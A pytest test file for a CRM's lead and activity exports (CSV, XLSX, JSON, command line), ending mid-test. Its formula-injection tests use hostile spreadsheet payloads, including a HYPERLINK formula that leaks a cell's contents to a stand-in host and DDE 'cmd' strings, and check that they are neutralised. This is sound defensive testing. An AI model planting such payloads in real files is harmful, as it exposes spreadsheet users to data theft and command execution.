"""Export: the lead list and the activities feed as CSV files as filtered, everything as JSON,
streamed; and the same from the command line."""

import codecs
import csv
import io
import itertools
import json
import tracemalloc
import zipfile
from datetime import datetime, timedelta
from decimal import Decimal

import openpyxl
import pytest
from sqlalchemy import func, select

from crm import csv_export, funnel, xlsx_export
from crm.exports import queries
from crm.extensions import db
from crm.intake.receiving import new_token
from crm.models import ActivityKind, ApiToken, IntakeForm, Lead, utcnow
from crm.timezones import local_today, zone_of
from tests import factories
from tests.querycount import counting_queries

LEAD_HEADER = [
    "Number",
    "Title",
    "Contact person",
    "Phone",
    "Email",
    "Job title",
    "Source",
    "Stage",
    "Owner",
    "Value",
    "Next step",
    "Next step note",
    "Lost reason",
    "Lost note",
    "Last contact",
    "Created",
    "Archived",
]
ACTIVITY_HEADER = ["Lead number", "Lead", "When", "Kind", "Author", "What was said", "Status after"]


def table(response, separator=","):
    """The rows of a CSV download, after checking it is UTF-8 with a byte order mark."""
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.data.startswith(codecs.BOM_UTF8)
    text = response.data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))


def records(response, separator=","):
    """The CSV rows as dicts by header."""
    header, *rows = table(response, separator)
    return [dict(zip(header, row, strict=True)) for row in rows]


def log_in(client, user):
    client.post("/login", data={"email": user.email, "password": factories.PASSWORD})
    return client


# The leads file


def test_leads_file_is_utf8_with_bom_and_every_column(logged_in, admin, stages):
    lead = factories.lead(
        title="ООО «Ромашка»",
        owner=admin,
        contact_name="Иван Петров",
        phone="8 (999) 123-45-67",
        email="ivan@example.com",
        source="Сайт",
        value=Decimal("1250000.50"),
        next_step_note="Позвонить",
    )
    response = logged_in.get("/export/leads.csv")

    header, row = table(response)
    assert header == LEAD_HEADER
    assert row[:10] == [
        str(lead.number),
        "ООО «Ромашка»",
        "Иван Петров",
        "8 (999) 123-45-67",
        "ivan@example.com",
        "",
        "Сайт",
        stages[0].name,
        "Ada Admin",
        "1250000.50",
    ]
    assert row[11] == "Позвонить"
    assert row[16] == "0"
    assert "attachment" in response.headers["Content-Disposition"]
    assert response.headers["Content-Disposition"].endswith(".csv")


def test_cyrillic_survives_a_round_trip(logged_in, stages):
    said = "Клиент просит «скидку» — ёлки, “кавычки”; запятые, и\nперенос строки"
    factories.lead(title=said, contact_name="Юлия Ёжикова")
    (row,) = records(logged_in.get("/export/leads.csv"))
    assert row["Title"] == said
    assert row["Contact person"] == "Юлия Ёжикова"


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("http://evil.example/?q="&A1,"Click")',
        "+SUM(1+1)",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
    ],
)
def test_formula_like_cells_are_made_inert(logged_in, stages, typed):
    factories.lead(title=typed, contact_name=typed)
    (row,) = records(logged_in.get("/export/leads.csv"))
    # Saving strips the tab; what is left would still start a formula.
    stored = typed.strip()
    assert row["Title"] == "'" + stored
    assert row["Contact person"] == "'" + stored


@pytest.mark.parametrize("typed", ["+7 999 123 45 67", "+7 (999) 123-45-67", "-1 250,50"])
def test_phones_and_negative_amounts_are_not_quoted(logged_in, stages, typed):
    """Digits, spaces and brackets can run nothing: a quote would only spoil the phone."""
    factories.lead(title="Phone", phone=typed, contact_name=typed)
    (row,) = records(logged_in.get("/export/leads.csv"))
    assert row["Contact person"] == typed


def test_harmless_text_is_left_alone(logged_in, stages):
    factories.lead(title="Acme = best", contact_name="Anna-Maria")
    (row,) = records(logged_in.get("/export/leads.csv"))
    assert (row["Title"], row["Contact person"]) == ("Acme = best", "Anna-Maria")


def test_dates_are_in_the_users_zone(logged_in, admin, stages):
    admin.timezone = "Asia/Yekaterinburg"  # UTC+5
    lead = factories.lead()
    lead.created_at = datetime(2026, 3, 7, 20, 30)
    lead.next_step_at = datetime(2026, 3, 9, 19, 0)  # midnight of the 10th there: a whole day
    lead.last_activity_at = datetime(2026, 3, 8, 6, 15)
    db.session.commit()
    (row,) = records(logged_in.get("/export/leads.csv"))
    assert row["Created"] == "2026-03-08 01:30"
    assert row["Next step"] == "2026-03-10"
    assert row["Last contact"] == "2026-03-08 11:15"


def test_the_lost_reason_and_note_are_kept(logged_in, admin, stages):
    lead = factories.lead(owner=admin)
    reason = funnel.lost_reason_by_id(1)
    funnel.move_lead(lead, stages[-1], admin, lost_reason=reason, lost_note="Went quiet")
    db.session.commit()
    (row,) = records(logged_in.get("/export/leads.csv"))
    assert (row["Stage"], row["Lost reason"], row["Lost note"]) == (
        stages[-1].name,
        reason.name,
        "Went quiet",
    )


def numbers(response):
    return [int(row["Number"]) for row in records(response)]


def test_the_lists_search_and_filters_decide_what_is_in_the_file(logged_in, admin, stages):
    seller = factories.user(name="Sam Seller")
    mine = factories.lead(title="Acme one", owner=admin)
    theirs = factories.lead(title="Acme two", owner=seller, stage=stages[1])
    other = factories.lead(title="Globex", owner=admin, stage=stages[1])
    archived = factories.lead(title="Acme old", owner=admin)
    archived.archived = True
    db.session.commit()

    assert numbers(logged_in.get("/export/leads.csv?q=acme")) == [theirs.number, mine.number]
    assert numbers(logged_in.get(f"/export/leads.csv?stage={stages[1].id}")) == [
        other.number,
        theirs.number,
    ]
    assert numbers(logged_in.get("/export/leads.csv?owner=me&q=acme")) == [mine.number]
    assert numbers(logged_in.get(f"/export/leads.csv?owner={seller.id}")) == [theirs.number]
    assert numbers(logged_in.get("/export/leads.csv?q=acme&archived=1")) == [
        archived.number,
        theirs.number,
        mine.number,
    ]


def test_the_file_keeps_the_lists_order_and_ignores_its_page(logged_in, stages):
    for title in ("Charlie", "alpha", "Bravo"):
        factories.lead(title=title)
    response = logged_in.get("/export/leads.csv?sort=title&dir=asc&after=999&key=zzz")
    assert [row["Title"] for row in records(response)] == ["Bravo", "Charlie", "alpha"]


@pytest.mark.parametrize(
    "query",
    ["", "sort=title", "sort=stage&dir=desc", "sort=owner", "sort=next_step", "sort=value"],
)
def test_chunks_neither_repeat_nor_skip(logged_in, admin, stages, monkeypatch, query):
    seller = factories.user(name="Bo")
    for n in range(11):
        factories.lead(
            title=f"Lead {n % 3}",
            owner=(admin, seller, None)[n % 3],
            stage=stages[n % 2],
            value=Decimal(n % 4) if n % 5 else None,
            next_step_at=utcnow() + timedelta(days=n % 3) if n % 2 else None,
        )
    whole = numbers(logged_in.get(f"/export/leads.csv?{query}"))
    monkeypatch.setattr(queries, "CHUNK", 2)
    chunked = numbers(logged_in.get(f"/export/leads.csv?{query}"))
    assert chunked == whole
    assert sorted(chunked) == list(range(1, 12))


def test_a_tampered_address_never_fails(logged_in, stages):
    factories.lead()
    for query in ("sort=%00&dir=up", "stage=x&owner=%00", "q=%00", "after=-1&key=%00"):
        assert logged_in.get(f"/export/leads.csv?{query}").status_code == 200


def test_a_salesperson_takes_away_what_the_list_shows_them(client, admin, stages):
    seller = factories.user()
    factories.lead(title="The admin's", owner=admin)
    factories.lead(title="Their own", owner=seller)
    log_in(client, seller)
    assert {row["Title"] for row in records(client.get("/export/leads.csv"))} == {
        "The admin's",
        "Their own",
    }


def test_downloads_need_a_login(client, admin):
    for url in (
        "/export/leads.csv",
        "/export/leads.xlsx",
        "/export/activities.csv",
        "/export/activities.xlsx",
        "/export/everything.json",
    ):
        response = client.get(url)
        assert response.status_code in (302, 303)
        assert "/login" in response.headers["Location"]


# Streaming


def test_downloads_are_streamed(logged_in, admin, stages):
    lead = factories.lead()
    factories.activity(lead, admin)
    for url in ("/export/leads.csv", "/export/activities.csv?all=1", "/export/everything.json"):
        response = logged_in.get(url, buffered=False)
        assert response.is_streamed, url
        assert "Content-Length" not in response.headers
        response.close()


def test_a_large_table_is_written_in_pieces_as_it_is_read():
    read = []

    def endless_rows():
        for n in itertools.count():
            read.append(n)
            yield (n, "=cmd", "Ёж")

    pieces = csv_export.pieces(["n", "formula", "text"], endless_rows())
    first = next(pieces)
    assert first.startswith(csv_export.BOM + "n,formula,text\r\n0,'=cmd,Ёж\r\n")
    # The first piece was sent before more than its own rows were read from the endless table.
    assert len(read) == csv_export.STREAM_ROWS
    second = next(pieces)
    assert second.startswith(f"{csv_export.STREAM_ROWS},'=cmd,Ёж\r\n")
    assert len(read) == 2 * csv_export.STREAM_ROWS


def test_pieces_make_the_same_file_as_to_text():
    rows = [(n, f"=row {n}", None, Decimal("1.50"), True) for n in range(1234)]
    header = ["a", "b", "c", "d", "e"]
    assert "".join(csv_export.pieces(header, iter(rows))) == csv_export.to_text(header, rows)


# The activities file


def at(days_ago, hour=10):
    return datetime.combine(utcnow().date() - timedelta(days=days_ago), datetime.min.time()) + (
        timedelta(hours=hour)
    )


@pytest.fixture
def history(app, admin, stages):
    """Two people's contacts over a week, one of them deleted, one moving a lead on."""
    seller = factories.user(name="Sam Seller")
    acme = factories.lead(title="Acme", owner=admin)
    globex = factories.lead(title="Globex", owner=seller)
    factories.activity(acme, admin, body="Called: =SUM(A1)", occurred_at=at(6))
    factories.activity(globex, seller, "email", body="Письмо отправлено", occurred_at=at(3))
    factories.activity(acme, admin, "meeting", body="Met", occurred_at=at(0, 1), stage=stages[1])
    deleted = factories.activity(globex, seller, body="Oops", occurred_at=at(0, 2))
    funnel.delete_activity(deleted, seller)
    db.session.commit()
    return seller


def local(moment):
    """A stored moment as the file writes it for someone in UTC."""
    return moment.strftime("%Y-%m-%d %H:%M")


def said(response):
    return [row["What was said"] for row in records(response)]


def test_activities_file_columns_and_order(logged_in, admin, stages, history):
    response = logged_in.get("/export/activities.csv?all=1")
    header, *rows = table(response)
    assert header == ACTIVITY_HEADER
    assert rows == [
        ["1", "Acme", local(at(6)), "Call", "Ada Admin", "Called: =SUM(A1)", ""],
        ["2", "Globex", local(at(3)), "Email", "Sam Seller", "Письмо отправлено", ""],
        ["1", "Acme", local(at(0, 1)), "Meeting", "Ada Admin", "Met", stages[1].name],
    ]


def test_activities_file_follows_the_feeds_filters(logged_in, admin, history):
    # The feed's default is today, and so is the file's.
    assert said(logged_in.get("/export/activities.csv")) == ["Met"]
    assert said(logged_in.get("/export/activities.csv?range=week")) == [
        "Called: =SUM(A1)",
        "Письмо отправлено",
        "Met",
    ]
    assert said(logged_in.get(f"/export/activities.csv?range=week&author={history.id}")) == [
        "Письмо отправлено"
    ]
    email = db.session.scalar(select(ActivityKind).where(ActivityKind.code == "meeting"))
    assert said(logged_in.get(f"/export/activities.csv?all=1&kind={email.id}")) == ["Met"]
    day = at(3).date().isoformat()
    assert said(logged_in.get(f"/export/activities.csv?from={day}&to={day}")) == [
        "Письмо отправлено"
    ]
    # The feed's page position is not a filter.
    assert len(said(logged_in.get("/export/activities.csv?range=week&before_id=1"))) == 3


def test_activities_file_in_the_users_zone(logged_in, admin, stages):
    admin.timezone = "America/New_York"
    lead = factories.lead(owner=admin)
    factories.activity(lead, admin, occurred_at=datetime(2026, 1, 15, 3, 30))
    (row,) = records(logged_in.get("/export/activities.csv?all=1"))
    assert row["When"] == "2026-01-14 22:30"


def test_bad_feed_filters_get_a_message(logged_in):
    response = logged_in.get("/export/activities.csv?from=2026-13-45")
    assert response.status_code == 422
    assert "Enter a date as year-month-day" in response.text


def activity_chunks_url():
    return "/export/activities.csv?all=1"


def test_activity_chunks_neither_repeat_nor_skip(logged_in, admin, stages, monkeypatch):
    lead = factories.lead(owner=admin)
    same_moment = at(1)
    for n in range(7):
        factories.activity(
            lead, admin, body=f"note {n}", occurred_at=same_moment if n < 4 else at(0, n)
        )
    whole = said(logged_in.get(activity_chunks_url()))
    monkeypatch.setattr(queries, "CHUNK", 2)
    assert said(logged_in.get(activity_chunks_url())) == whole
    assert sorted(whole) == [f"note {n}" for n in range(7)]


# The separator: the one Excel expects in the viewer's language, or the one chosen


def speaks(user, language, zone=None):
    user.locale = language
    user.timezone = zone or user.timezone
    db.session.commit()


@pytest.fixture
def lead_and_contact(admin, stages):
    lead = factories.lead(title="Ромашка; и компания", owner=admin, value=Decimal("1250000.50"))
    factories.activity(lead, admin, body="Звонок, потом письмо; всё")
    return lead


SEPARATED = ["/export/leads.csv", "/export/activities.csv?all=1"]


@pytest.mark.parametrize(
    ("language", "sep", "separator"),
    [
        ("en", None, ","),
        ("ru", None, ";"),
        ("en", "semicolon", ";"),
        ("ru", "comma", ","),
        # Anything else is no choice: the language's separator, as for a mistyped filter.
        ("ru", "tab", ";"),
        ("en", "", ","),
        ("en", "%00", ","),
        ("ru", "semicolon;", ";"),
    ],
)
def test_the_separator_is_the_languages_unless_chosen(
    logged_in, admin, lead_and_contact, language, sep, separator
):
    speaks(admin, language)
    for url in SEPARATED:
        chosen = url + ("&" if "?" in url else "?") + f"sep={sep}" if sep is not None else url
        header, row = table(logged_in.get(chosen), separator)
        assert len(header) == len(row) > 5, chosen
        assert "Ромашка; и компания" in row


def test_a_semicolon_file_has_decimal_commas_and_the_same_dates(logged_in, admin, stages):
    """Excel with Russian settings reads "1250000,50" as a number; "1250000.50" as text."""
    speaks(admin, "ru", "Europe/Moscow")
    lead = factories.lead(title="ООО «Ромашка»", owner=admin, value=Decimal("1250000.50"))
    lead.created_at = datetime(2026, 3, 7, 20, 30)
    lead.next_step_at = datetime(2026, 3, 9, 21, 0)
    db.session.commit()
    header, row = table(logged_in.get("/export/leads.csv"), ";")
    assert header[:2] == ["Номер", "Название"]
    by_column = dict(zip(header, row, strict=True))
    assert by_column["Сумма"] == "1250000,50"
    assert by_column["Создан"] == "2026-03-07 23:30"
    assert by_column["Следующий шаг"] == "2026-03-10"
    # With commas the decimal point stays, or the amount would be split in two.
    header, row = table(logged_in.get("/export/leads.csv?sep=comma"))
    assert dict(zip(header, row, strict=True))["Сумма"] == "1250000.50"


def test_numbers_take_the_files_decimal_mark_and_text_stays_as_typed():
    assert csv_export.cell(Decimal("-1250.50"), decimal_comma=True) == "-1250,50"
    assert csv_export.cell(12.5, decimal_comma=True) == "12,5"
    assert csv_export.cell(12.5) == "12.5"
    assert csv_export.cell(3, decimal_comma=True) == "3"
    assert csv_export.cell(True, decimal_comma=True) == "1"
    # Text is text: a version number or a typed amount is not rewritten.
    assert csv_export.cell("1.5", decimal_comma=True) == "1.5"
    text = csv_export.to_text(["a", "b"], [(Decimal("1.5"), "x;y")], separator=";")
    assert text == '\ufeffa;b\r\n1,5;"x;y"\r\n'


def test_the_page_offers_the_separator_of_its_language(logged_in, admin, stages):
    for language, chosen in (("en", "comma"), ("ru", "semicolon")):
        speaks(admin, language)
        for page in ("/leads/", "/activities/"):
            html = logged_in.get(page).text
            assert f'<option value="{chosen}" selected>' in html, page
    # Chosen in the address (a reload without JavaScript), it is written into the links.
    html = logged_in.get("/leads/?q=acme&sep=comma").text
    assert 'href="/export/leads.csv?archived=1&amp;sep=comma"' in html
    assert 'href="/export/leads.csv?q=acme&amp;sep=comma"' in html
    assert '<input type="hidden" name="q" value="acme">' in html
    assert '<option value="comma" selected>' in html


# XLSX workbooks

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def workbook(response):
    """The workbook of an XLSX download, after checking how it is sent."""
    assert response.status_code == 200
    assert response.mimetype == XLSX
    assert response.headers["Content-Length"] == str(len(response.data))
    return openpyxl.load_workbook(io.BytesIO(response.data))


def cells(sheet):
    """The sheet's values, row by row."""
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def saved_as(response):
    """The file name a browser saves a download as."""
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment; ")
    return disposition.split('filename="', 1)[1].split('"', 1)[0]


def test_leads_workbook_has_a_cell_of_its_type_for_every_column(logged_in, admin, stages):
    admin.timezone = "Asia/Yekaterinburg"  # UTC+5
    lead = factories.lead(
        title="ООО «Ромашка»",
        owner=admin,
        contact_name="Иван Петров",
        phone="+7 (999) 123-45-67",
        email="ivan@example.com",
        source="Сайт",
        value=Decimal("1250000.50"),
        next_step_note="Позвонить",
    )
    lead.created_at = datetime(2026, 3, 7, 20, 30, 15, 250)
    lead.next_step_at = datetime(2026, 3, 9, 19, 0)  # midnight of the 10th there: a whole day
    lead.last_activity_at = datetime(2026, 3, 8, 6, 15)
    db.session.commit()

    response = logged_in.get("/export/leads.xlsx")

    book = workbook(response)
    # Named for the day in the person's zone, which from 19:00 UTC is already tomorrow's.
    assert saved_as(response) == f"leads-{datetime.now(zone_of(admin)).date().isoformat()}.xlsx"
    assert book.sheetnames == ["Leads"]
    sheet = book["Leads"]
    assert sheet.freeze_panes == "A2"
    header, row = list(sheet.iter_rows())
    assert [cell.value for cell in header] == LEAD_HEADER
    assert all(cell.font.b and cell.data_type == "s" for cell in header)
    assert [cell.value for cell in row] == [
        lead.number,
        "ООО «Ромашка»",
        "Иван Петров",
        "+7 (999) 123-45-67",
        "ivan@example.com",
        None,
        "Сайт",
        stages[0].name,
        "Ada Admin",
        1250000.5,
        datetime(2026, 3, 10),
        "Позвонить",
        None,
        None,
        datetime(2026, 3, 8, 11, 15),
        datetime(2026, 3, 8, 1, 30),
        False,
    ]
    number, value, next_step, last_contact, created, archived = (
        row[i] for i in (0, 9, 10, 14, 15, 16)
    )
    assert (number.data_type, value.data_type, archived.data_type) == ("n", "n", "b")
    assert value.number_format == "#,##0.00"
    assert next_step.number_format == "yyyy-mm-dd"
    assert last_contact.number_format == created.number_format == "yyyy-mm-dd hh:mm"


def test_a_russian_workbook(logged_in, admin, stages):
    speaks(admin, "ru")
    factories.lead(title="Ёлки-палки", owner=admin, value=Decimal("99.90"))
    book = workbook(logged_in.get("/export/leads.xlsx"))
    assert book.sheetnames == ["Лиды"]
    header, row = cells(book["Лиды"])
    assert header[:2] == ["Номер", "Название"]
    assert (row[1], row[9]) == ("Ёлки-палки", 99.9)
    book = workbook(logged_in.get("/export/activities.xlsx?all=1"))
    assert book.sheetnames == ["Контакты"]


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("http://evil.example/?q="&A1,"Click")',
        "=1+1",
        "+SUM(1+1)",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "#N/A",
        "#DIV/0!",
    ],
)
def test_formula_like_text_is_text_in_a_workbook(logged_in, stages, typed):
    factories.lead(title=typed)
    response = logged_in.get("/export/leads.xlsx")
    cell = workbook(response)["Leads"]["B2"]
    assert (cell.value, cell.data_type) == (typed, "s")
    # No formula anywhere in the file: nothing for Excel to run.
    with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def test_control_characters_are_left_out_of_a_workbook(logged_in, stages):
    factories.lead(title="Bell\x07 and\x0b tab\there", next_step_note="line\nbreak")
    (_header, row) = cells(workbook(logged_in.get("/export/leads.xlsx"))["Leads"])
    assert (row[1], row[11]) == ("Bell and tab\there", "line\nbreak")


def test_the_workbook_holds_what_the_csv_file_holds(logged_in, admin, stages, history):
    """The same filters, scope and order, whatever the format."""
    seller = factories.user(name="Bo")
    for n in range(5):
        factories.lead(title=f"Acme {n}", owner=(admin, seller)[n % 2], stage=stages[n % 2])
    for query in ("q=acme&sort=title&dir=asc", f"owner={seller.id}", "stage=" + str(stages[1].id)):
        csv_numbers = numbers(logged_in.get(f"/export/leads.csv?{query}"))
        rows = cells(workbook(logged_in.get(f"/export/leads.xlsx?{query}"))["Leads"])[1:]
        assert [row[0] for row in rows] == csv_numbers, query
    for query in ("range=week", f"range=week&author={history.id}", "all=1"):
        csv_said = said(logged_in.get(f"/export/activities.csv?{query}"))
        rows = cells(workbook(logged_in.get(f"/export/activities.xlsx?{query}"))["Activities"])
        assert [row[5] for row in rows[1:]] == csv_said, query


def test_activities_workbook(logged_in, admin, stages, history):
    response = logged_in.get("/export/activities.xlsx?range=week")
    first, last = local_today() - timedelta(days=6), local_today()
    assert saved_as(response) == f"activities-{first}-{last}.xlsx"
    header, *rows = cells(workbook(response)["Activities"])
    assert header == ACTIVITY_HEADER
    assert rows == [
        [1, "Acme", at(6), "Call", "Ada Admin", "Called: =SUM(A1)", None],
        [2, "Globex", at(3), "Email", "Sam Seller", "Письмо отправлено", None],
        [1, "Acme", at(0, 1), "Meeting", "Ada Admin", "Met", stages[1].name],
    ]
    assert saved_as(logged_in.get("/export/activities.xlsx?all=1")) == "activities.xlsx"


def test_bad_feed_filters_get_a_message_for_a_workbook_too(logged_in):
    response = logged_in.get("/export/activities.xlsx?from=2026-13-45")
    assert response.status_code == 422
    assert "Enter a date as year-month-day" in response.text


def test_an_empty_list_is_a_workbook_with_its_header(logged_in):
    (header,) = cells(workbook(logged_in.get("/export/leads.xlsx"))["Leads"])
    assert header == LEAD_HEADER


def test_a_table_longer_than_a_sheet_goes_on_in_the_next(logged_in, stages, monkeypatch):
    monkeypatch.setattr(xlsx_export, "ROWS_PER_SHEET", 2)
    for count, sheets in ((4, ["Leads", "Leads (2)"]), (5, ["Leads", "Leads (2)", "Leads (3)"])):
        while db.session.scalar(select(func.count(Lead.id))) < count:
            factories.lead()
        book = workbook(logged_in.get("/export/leads.xlsx"))
        assert book.sheetnames == sheets
        parts = [cells(book[name]) for name in sheets]
        assert all(part[0] == LEAD_HEADER for part in parts)
        listed = [row[0] for part in parts for row in part[1:]]
        assert listed == list(range(count, 0, -1))


def test_sheet_names_are_ones_excel_takes():
    assert xlsx_export.sheet_name("Воронка: шаги [1/2]?") == "Воронка шаги 1 2"
    assert xlsx_export.sheet_name("'Quoted'") == "Quoted"
    assert xlsx_export.sheet_name("") == "Sheet"
    long = xlsx_export.sheet_name("Очень длинное название отчёта для листа", part=12)
    assert len(long) == 31 and long.endswith(" (12)")


def test_a_workbook_is_written_as_its_rows_are_read(tmp_path):
    """Memory stays flat: each row goes to disk as it is read, none is kept, so ten times the
    rows take no more memory than a tenth of them."""
    header = ["Number", "Title", "Value", "When", "Note"]

    def rows(count):
        for n in range(count):
            moment = datetime(2026, 1, 1) + timedelta(minutes=n)
            yield (n, f"Лид {n} «Ромашка»", Decimal("1250.50"), moment, "=cmd")

    def peak_memory(count):
        tracemalloc.start()
        try:
            with open(tmp_path / f"{count}.xlsx", "wb") as out:
                xlsx_export.write_workbook(out, "Leads", header, rows(count))
            return tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()

    few, many = peak_memory(300), peak_memory(3_000)
    assert many < few * 1.5
    with open(tmp_path / "3000.xlsx", "rb") as saved:
        sheet = openpyxl.load_workbook(saved, read_only=True)["Leads"]
        assert sum(1 for _row in sheet.iter_rows()) == 3_001


def test_a_workbook_is_sent_in_pieces_from_disk(logged_in, stages, monkeypatch):
    for _n in range(30):
        factories.lead(title="Лид с длинным названием, чтобы файл был побольше " * 3)
    monkeypatch.setattr(xlsx_export, "SEND_BYTES", 1024)
    response = logged_in.get("/export/leads.xlsx", buffered=False)
    assert response.is_streamed
    pieces = list(response.response)
    response.close()
    assert len(pieces) > 2 and all(len(piece) <= 1024 for piece in pieces)
    assert sum(map(len, pieces)) == int(response.headers["Content-Length"])


def test_an_unknown_format_is_not_found(logged_in, stages):
    for url in ("/export/leads.pdf", "/export/leads.xls", "/export/activities.XLSX"):
        assert logged_in.get(url).status_code == 404, url


# The full JSON export


def test_everything_as_json(logged_in, admin, stages, history):
    admin.calendar_token = "calendar-secret-token-123456"
    form = IntakeForm(name="Site", token=new_token(), source="Web", allowed_origins="")
    db.session.add(form)
    db.session.add(
        ApiToken(user_id=admin.id, name="Sync", token_hash="f" * 64, token_start="crm_abcdef")
    )
    db.session.commit()
    response = logged_in.get("/export/everything.json")
    assert response.status_code == 200
    assert response.mimetype == "application/json"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="crm-export-')
    data = json.loads(response.data)

    assert data["format"] == "crm-export"
    assert {
        "users",
        "pipelines",
        "stages",
        "activity_kinds",
        "lost_reasons",
        "settings",
        "intake_forms",
        "leads",
        "activities",
        "activity_revisions",
        "stage_changes",
        "planned_steps",
    } <= set(data)
    assert {user["email"] for user in data["users"]} == {admin.email, history.email}
    assert set(data["users"][0]) == {
        "id",
        "email",
        "name",
        "role",
        "active",
        "locale",
        "timezone",
        "created_at",
    }
    assert [stage["name"] for stage in data["stages"]] == [stage.name for stage in stages]
    assert [lead["title"] for lead in data["leads"]] == ["Acme", "Globex"]
    assert data["leads"][0]["value"] == "1000.00"
    assert data["leads"][0]["created_at"].endswith("Z")
    assert "search_text" not in data["leads"][0]
    activities = {activity["body"]: activity for activity in data["activities"]}
    assert activities["Oops"]["deleted"] is True
    assert activities["Oops"]["deleted_at"].endswith("Z")
    assert activities["Met"]["deleted"] is False
    assert len(data["activity_revisions"]) == 1
    assert len(data["stage_changes"]) == 3
    assert data["intake_forms"][0]["name"] == "Site"


def test_the_json_export_holds_no_secrets(logged_in, admin, stages):
    admin.calendar_token = "calendar-secret-token-123456"
    form = IntakeForm(name="Site", token=new_token(), allowed_origins="")
    db.session.add(form)
    db.session.add(
        ApiToken(user_id=admin.id, name="Sync", token_hash="f" * 64, token_start="crm_abcdef")
    )
    db.session.commit()
    text = logged_in.get("/export/everything.json").text
    for secret in (admin.password_hash, admin.calendar_token, form.token, "f" * 64, "crm_abcdef"):
        assert secret not in text
    for column in ("password_hash", "session_version", "calendar_token", "token", "token_hash"):
        assert f'"{column}"' not in text


def test_the_json_export_is_for_administrators_only(client, admin, stages):
    for role in ("salesperson", "manager"):
        person = factories.user(role=role)
        log_in(client, person)
        assert client.get("/export/everything.json").status_code == 403
        client.post("/logout")


def test_an_empty_crm_exports_as_valid_json(logged_in):
    data = json.loads(logged_in.get("/export/everything.json").data)
    assert data["leads"] == [] and data["activities"] == []


def test_json_chunks_neither_repeat_nor_skip(logged_in, admin, stages, monkeypatch):
    for _n in range(5):
        factories.lead()
    whole = json.loads(logged_in.get("/export/everything.json").data)
    monkeypatch.setattr(queries, "CHUNK", 2)
    chunked = json.loads(logged_in.get("/export/everything.json").data)
    whole.pop("exported_at"), chunked.pop("exported_at")
    assert chunked == whole
    assert [lead["number"] for lead in chunked["leads"]] == [1, 2, 3, 4, 5]


# The cost of a download does not grow with what it holds


def queries_for(client, url):
    with counting_queries() as statements:
        response = client.get(url)
        assert response.status_code == 200
        response.get_data()
    return len(statements)


@pytest.mark.parametrize(
    "url",
    [
        "/export/leads.csv",
        "/export/leads.csv?sort=owner&q=lead",
        "/export/activities.csv?all=1",
        "/export/leads.xlsx?sort=owner&q=lead",
        "/export/activities.xlsx?all=1",
        "/export/everything.json",
    ],
)
def test_query_count_does_not_grow_with_the_rows(logged_in, admin, stages, url):
    def add(count):
        for _n in range(count):
            lead = factories.lead(owner=factories.user())
            factories.activity(lead, admin)

    add(2)
    few = queries_for(logged_in, url)
    add(20)
    assert queries_for(logged_in, url) == few


# The command line


def test_export_command_writes_the_three_files(runner, admin, stages, tmp_path):
    lead = factories.lead(title="=Ромашка", owner=admin)
    factories.activity(lead, admin, body="Звонок")
    lead.archived = True
    db.session.commit()
    paths = {name: tmp_path / f"out.{name}" for name in ("leads", "activities", "json")}

    result = runner.invoke(
        args=[
            "export",
            "--leads",
            str(paths["leads"]),
            "--activities",
            str(paths["activities"]),
            "--json",
            str(paths["json"]),
        ]
    )

    assert result.exit_code == 0, result.output
    assert "Wrote 1 leads" in result.output
    leads_file = paths["leads"].read_bytes()
    assert leads_file.startswith(codecs.BOM_UTF8)
    header, row = list(csv.reader(io.StringIO(leads_file.decode("utf-8-sig"), newline="")))
    assert header == LEAD_HEADER
    assert (row[1], row[16]) == ("'=Ромашка", "1")
    activities = paths["activities"].read_text(encoding="utf-8-sig")
    assert "Звонок" in activities
    data = json.loads(paths["json"].read_text(encoding="utf-8"))
    assert data["leads"][0]["title"] == "=Ромашка"
    assert "password_hash" not in paths["json"].read_text(encoding="utf-8")


def test_export_command_in_russian_to_standard_output(runner, admin, stages):
    factories.lead(title="Ромашка")
    result = runner.invoke(args=["export", "--leads", "-", "--language", "ru", "--timezone", "UTC"])
    assert result.exit_code == 0, result.output
    assert result.stdout_bytes.startswith(codecs.BOM_UTF8)
    assert "Ромашка" in result.stdout


def test_export_command_needs_something_to_export(runner, app):
    result = runner.invoke(args=["export"])
    assert result.exit_code == 2
    assert "--leads, --activities and/or --json" in result.output
    result = runner.invoke(args=["export", "--leads", "-", "--json", "-"])
    assert result.exit_code == 2
    result = runner.invoke(args=["export", "--leads", "-", "--timezone", "Mars/Olympus"])
    assert result.exit_code == 2


def test_every_lead_reaches_the_file(runner, stages, tmp_path, monkeypatch):
    for _n in range(7):
        funnel.create_lead(None, title="Bulk")
    db.session.commit()
    monkeypatch.setattr(queries, "CHUNK", 3)
    path = tmp_path / "leads.csv"
    result = runner.invoke(args=["export", "--leads", str(path)])
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
    assert [int(row[0]) for row in rows[1:]] == sorted(
        db.session.scalars(select(Lead.number)), reverse=True
    )


def test_export_command_writes_workbooks(runner, admin, stages, tmp_path):
    lead = factories.lead(title="=Ромашка", owner=admin, value=Decimal("10.50"))
    factories.activity(lead, admin, body="Звонок")
    paths = {name: tmp_path / f"{name}.xlsx" for name in ("leads", "activities")}
    result = runner.invoke(
        args=[
            *("export", "--format", "xlsx", "--language", "ru"),
            *("--leads", str(paths["leads"]), "--activities", str(paths["activities"])),
        ]
    )
    assert result.exit_code == 0, result.output
    assert "Wrote 1 leads" in result.output
    leads_book = openpyxl.load_workbook(paths["leads"])
    header, row = cells(leads_book["Лиды"])
    assert (header[0], row[0], row[1], row[9]) == ("Номер", lead.number, "=Ромашка", 10.5)
    (_header, contact) = cells(openpyxl.load_workbook(paths["activities"])["Контакты"])
    assert contact[5] == "Звонок"


def test_export_command_takes_the_languages_separator_unless_told(runner, admin, stages):
    factories.lead(title="Ромашка", value=Decimal("10.50"))
    for options, separator in (
        (["--language", "ru"], ";"),
